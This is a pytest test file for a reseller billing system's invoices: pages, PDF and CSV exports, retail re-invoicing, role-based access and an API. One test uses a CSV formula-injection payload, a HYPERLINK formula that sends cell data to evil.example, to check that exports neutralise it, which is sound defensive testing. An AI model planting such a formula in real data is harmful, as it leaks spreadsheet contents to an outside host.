"""B4 documents: an invoice as a page, a PDF, a CSV and through the API, for each role; a
reseller's invoice restated at its retail prices; and nobody reads anyone else's.

The scene is Microsoft's seat-addition example, billed for real (provisioned against the
sandbox, then a billing run): 10 seats of Microsoft 365 Business Standard on June 18, 2021
at EUR 10.08 each, monthly; two more seats on June 20, which Microsoft bills as −94.08 and
+112.89 (28 of 30 days at 9.408):
https://learn.microsoft.com/en-us/partner-center/billing/common-billing-scenarios-onetime-recurring
Reseller A pays cost + 5 % (8.064 → 8.47) and sells at Microsoft's price (10.08).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from billing.invoices import issue_credit_note
from billing.models import Invoice
from billing.runs import run_billing
from catalog.models import ResellerMarkup
from catalog.pricing import format_money
from persistence import db
from tests.api.factories import bearer
from tests.billing.conftest import price_in, provisioned
from tests.conftest import login, served

BILLED_ON = date(2021, 7, 2)


def plain(text: str) -> str:
    """Text with Babel's no-break spaces as plain ones (1.234,50 € either way)."""
    return text.replace("\xa0", " ").replace("\u202f", " ")


def eur(amount: str) -> str:
    """An amount as a German reseller's invoice writes it."""
    return plain(format_money(Decimal(amount), "EUR", "de_DE"))


@pytest.fixture
def billed(shop, clock, pc_client):
    """June 2021 billed: reseller A's customer (Microsoft's example), reseller B's customer,
    and the direct customer in GBP; one invoice each."""
    db.session.add(ResellerMarkup(reseller_id=shop.reseller_a.id, markup_percent=Decimal(5)))
    db.session.commit()
    price = price_in(shop, "DE", "EUR", erp="10.08")
    sub = provisioned(shop.customer_a, shop.reseller_a_user, price, 10, pc_client)
    provisioned(shop.customer_b, shop.reseller_b_user, price, 3, pc_client)
    provisioned(shop.direct, shop.direct_user, price_in(shop, "GB", "GBP", "9.40"), 2,
                pc_client)
    clock.move_to(datetime(2021, 6, 20, 11, tzinfo=UTC))
    provisioned(shop.customer_a, shop.reseller_a_user, price, 2, pc_client, add_to=sub)
    clock.move_to(datetime(2021, 7, 2, 8, tzinfo=UTC))
    run_billing("2021-06", BILLED_ON)
    found = {(i.buyer_reseller_id, i.buyer_customer_id): i
             for i in db.session.scalars(select(Invoice))}
    return SimpleNamespace(a=found[(shop.reseller_a.id, None)],
                           b=found[(shop.reseller_b.id, None)],
                           direct=found[(None, shop.direct.id)])


def page(client, url: str) -> str:
    """The page's text as a reader sees it: tags dropped, spaces collapsed."""
    response = client.get(url)
    assert response.status_code == 200, url
    text = re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))
    return re.sub(r"\s+", " ", plain(text))


# --- the page -------------------------------------------------------------------------------

def test_a_resellers_invoice_page_shows_its_lines_by_customer_with_tax_and_total(
        client, shop, billed):
    login(client, shop.reseller_a_user)
    shown = page(client, f"/invoices/{billed.a.id}")
    assert f"Invoice {billed.a.number}" in shown and "Reseller A" in shown
    assert "Alpha GmbH" in shown and "Microsoft 365 Business Standard" in shown
    assert "2021-07-02" in shown and "2021-08-01" in shown and "30 days net" in shown
    assert "2021-06-18 – 2021-07-17" in shown and "2021-06-20 – 2021-07-17" in shown
    # 10 × 8.47; −10 and +12 × 8.47 ÷ 30 × 28 (7.9053…), each cut to the cent
    for amount in ("84.70", "-79.05", "94.86"):
        assert eur(amount) in shown
    assert "VAT 19 %" in shown
    assert eur("100.51") in shown and eur("19.10") in shown and eur("119.61") in shown
    assert (billed.a.subtotal, billed.a.tax, billed.a.total) == (
        Decimal("100.51"), Decimal("19.10"), Decimal("119.61"))


def test_an_australian_invoice_says_its_gst_is_included(client, shop, clock, pc_client):
    provisioned(shop.direct, shop.direct_user, price_in(shop, "AU", "AUD", "22.00"), 1,
                pc_client)
    run_billing("2021-06", BILLED_ON)
    invoice = db.session.scalar(select(Invoice))
    login(client, shop.direct_user)
    shown = page(client, f"/invoices/{invoice.id}")
    assert "Total (GST included)" in shown and "incl. GST 10 %" in shown
    assert (invoice.total, invoice.tax) == (Decimal("22.00"), Decimal("2.00"))


def test_a_credit_note_names_the_invoice_it_corrects_and_the_invoice_names_it(
        client, shop, billed):
    note = issue_credit_note(billed.direct, "Two seats billed twice", BILLED_ON)
    login(client, shop.direct_user)
    shown = page(client, f"/invoices/{note.id}")
    assert f"Credit note {note.number}" in shown
    assert f"Invoice {billed.direct.number}" in shown and "Two seats billed twice" in shown
    assert f"Corrected by {note.number}" in page(client, f"/invoices/{billed.direct.id}")


# --- the list -------------------------------------------------------------------------------

def test_each_role_lists_only_the_invoices_it_is_billed(browser, shop, billed):
    numbers = {"a": billed.a.number, "b": billed.b.number, "direct": billed.direct.number}
    for user, mine in ((shop.admin, {"a", "b", "direct"}), (shop.reseller_a_user, {"a"}),
                       (shop.reseller_b_user, {"b"}), (shop.direct_user, {"direct"})):
        client = browser()
        login(client, user)
        listed = page(client, "/invoices")
        assert {k for k, number in numbers.items() if number in listed} == mine, user.email
        # the role's navigation links to the list
        assert 'href="/invoices" aria-current="page"' in client.get("/invoices").get_data(
            as_text=True)


def test_a_resellers_customer_is_told_its_reseller_invoices_it(client, shop, billed):
    from accounts.services import new_user

    alpha_user = new_user("alpha@test.example", "correct horse battery",
                          "customer_user", customer=shop.customer_a)
    db.session.add(alpha_user)
    db.session.commit()
    login(client, alpha_user)
    listed = page(client, "/invoices")
    assert "Reseller A, which invoices you directly" in listed
    assert billed.a.number not in listed
    assert client.get(f"/invoices/{billed.a.id}").status_code == 404


def test_the_admin_filters_invoices_by_month_kind_and_buyer(client, shop, billed):
    note = issue_credit_note(billed.a, "Wrong seats", BILLED_ON)
    login(client, shop.admin)
    by_buyer = page(client, f"/invoices?buyer=reseller:{shop.reseller_a.id}")
    assert billed.a.number in by_buyer and note.number in by_buyer
    assert billed.b.number not in by_buyer and billed.direct.number not in by_buyer
    notes = page(client, "/invoices?kind=credit_note")
    assert note.number in notes and f"{billed.a.number} Invoice" not in notes
    assert "No invoices match" in page(client, "/invoices?month=2021-05")
    assert billed.b.number in page(client, "/invoices?month=2021-06")


@pytest.mark.parametrize(("query", "message"), [
    ("month=2021-13", "Month: write the billing month as YYYY-MM, e.g. 2026-11"),
    ("kind=paid", "Kind: choose invoice or credit_note"),
    ("buyer=reseller:abc", "Buyer: choose a buyer from the list"),
    ("buyer=reseller:\u00b2", "Buyer: choose a buyer from the list"),  # isdigit(), not int()
    ("buyer=customer:" + "9" * 5000, "Buyer: choose a buyer from the list"),
])
def test_a_malformed_filter_is_named_with_its_fix(client, shop, billed, query, message):
    login(client, shop.admin)
    response = client.get(f"/invoices?{query}")
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)


# --- PDF and CSV ----------------------------------------------------------------------------

def test_the_pdf_is_a_real_pdf_with_the_number_lines_and_total(client, shop, billed):
    login(client, shop.reseller_a_user)
    response = client.get(f"/invoices/{billed.a.id}.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert f'filename="{billed.a.number}.pdf"' in response.headers["Content-Disposition"]
    assert response.data.startswith(b"%PDF-")
    text = plain("\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.data)).pages))
    assert billed.a.number in text and "Alpha GmbH" in text
    assert eur("119.61") in text and "VAT 19 %" in text


def test_the_direct_customer_downloads_its_invoice_as_pdf_in_its_currency(client, shop, billed):
    login(client, shop.direct_user)
    response = client.get(f"/invoices/{billed.direct.id}.pdf")
    text = plain(PdfReader(io.BytesIO(response.data)).pages[0].extract_text())
    assert billed.direct.number in text and "£22.56" in text  # 2 × 9.40 + 20 % VAT


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_csv_has_one_row_per_line_with_the_invoices_figures(client, shop, billed):
    login(client, shop.reseller_a_user)
    response = served(client, f"/invoices/{billed.a.id}.csv")
    assert f'filename="{billed.a.number}.csv"' in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    assert [(r["Charge type"], r["Quantity"], r["Unit price"], r["Amount"]) for r in rows] == [
        ("new", "10", "8.47", "84.70"), ("addQuantity", "-10", "8.47", "-79.05"),
        ("addQuantity", "12", "8.47", "94.86")]
    first = rows[0]
    assert (first["Invoice number"], first["Issue date"], first["Due date"]) == (
        billed.a.number, "2021-07-02", "2021-08-01")
    assert (first["Customer"], first["Period start"], first["Period end"]) == (
        "Alpha GmbH", "2021-06-18", "2021-07-17")
    assert (first["Tax rate"], first["Invoice tax"], first["Invoice total"],
            first["Currency"]) == ("0.19", "19.10", "119.61", "EUR")


def test_a_formula_looking_customer_name_is_written_as_text_in_the_csv(
        client, shop, clock, pc_client):
    shop.direct.company_name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    db.session.commit()
    provisioned(shop.direct, shop.direct_user, price_in(shop, "GB", "GBP", "9.40"), 2,
                pc_client)
    run_billing("2021-06", BILLED_ON)
    invoice = db.session.scalar(select(Invoice))
    login(client, shop.direct_user)
    [row] = csv_rows(served(client, f"/invoices/{invoice.id}.csv"))
    assert row["Customer"] == "'" + shop.direct.company_name
    assert row["Buyer"] == "'" + shop.direct.company_name
    assert row["Amount"] == "18.80"  # a number stays a number


# --- re-invoicing at retail -----------------------------------------------------------------

def test_the_resellers_reinvoice_restates_each_line_at_its_retail_price(client, shop, billed):
    login(client, shop.reseller_a_user)
    assert "Re-invoice at retail prices" in page(client, f"/invoices/{billed.a.id}")
    shown = page(client, f"/invoices/{billed.a.id}/reinvoice?customer={shop.customer_a.id}")
    assert "Alpha GmbH" in shown and eur("10.08") in shown and eur("8.47") not in shown
    # Microsoft's own figures for this example: 100.80, −94.08, +112.89
    for amount in ("100.80", "-94.08", "112.89"):
        assert eur(amount) in shown
    # 119.61 net at retail, VAT 19 % (22.7259 → 22.73), 142.34 to pay
    assert eur("22.73") in shown and eur("142.34") in shown


def test_a_direct_customers_invoice_has_nothing_to_reinvoice(client, shop, billed):
    login(client, shop.direct_user)
    assert "Re-invoice" not in page(client, f"/invoices/{billed.direct.id}")
    assert client.get(f"/invoices/{billed.direct.id}/reinvoice").status_code == 404


# --- nobody reads anyone else's --------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["", ".pdf", ".csv", "/reinvoice"])
def test_another_resellers_invoice_is_not_found_in_any_format(client, shop, billed, suffix):
    login(client, shop.reseller_a_user)
    assert client.get(f"/invoices/{billed.b.id}{suffix}").status_code == 404
    assert client.get(f"/invoices/{billed.direct.id}{suffix}").status_code == 404


def test_another_resellers_invoice_is_not_found_through_the_api(client, shop, billed):
    headers = bearer(shop.reseller_a_user)
    for other in (billed.b, billed.direct):
        response = client.get(f"/api/v1/invoices/{other.id}", headers=headers)
        assert response.status_code == 404
        assert response.get_json()["error"]["status"] == 404
    listed = client.get("/api/v1/invoices", headers=headers).get_json()
    assert [i["number"] for i in listed["items"]] == [billed.a.number]


# --- the API --------------------------------------------------------------------------------

def test_a_resellers_erp_reads_its_invoice_with_lines_as_exact_amounts(client, shop, billed):
    response = client.get(f"/api/v1/invoices/{billed.a.id}",
                          headers=bearer(shop.reseller_a_user))
    assert response.status_code == 200
    body = response.get_json()
    assert (body["number"], body["currency"], body["kind"]) == (billed.a.number, "EUR",
                                                                "invoice")
    assert (body["subtotal"], body["tax"], body["total"], body["tax_rate"]) == (
        "100.51", "19.10", "119.61", "0.19")
    assert (body["issue_date"], body["due_date"], body["payment_terms_days"]) == (
        "2021-07-02", "2021-08-01", 30)
    assert [(ln["charge_type"], ln["quantity"], ln["unit_price"], ln["amount"],
             ln["customer_name"]) for ln in body["lines"]] == [
        ("new", 10, "8.47", "84.70", "Alpha GmbH"),
        ("addQuantity", -10, "8.47", "-79.05", "Alpha GmbH"),
        ("addQuantity", 12, "8.47", "94.86", "Alpha GmbH")]


def test_a_direct_customers_token_lists_its_invoices_by_month(client, shop, billed):
    headers = bearer(shop.direct_user)
    june = client.get("/api/v1/invoices?month=2021-06", headers=headers).get_json()
    assert [i["number"] for i in june["items"]] == [billed.direct.number]
    assert june["items"][0]["total"] == "22.56" and "lines" not in june["items"][0]
    may = client.get("/api/v1/invoices?month=2021-05", headers=headers).get_json()
    assert (may["items"], may["total"]) == ([], 0)


def test_a_malformed_month_is_refused_by_the_api_naming_the_field(client, shop, billed):
    response = client.get("/api/v1/invoices?month=June", headers=bearer(shop.reseller_a_user))
    assert response.status_code == 400
    assert response.get_json()["error"]["fields"] == {
        "month": ["Write the billing month as YYYY-MM, e.g. 2026-11."]}
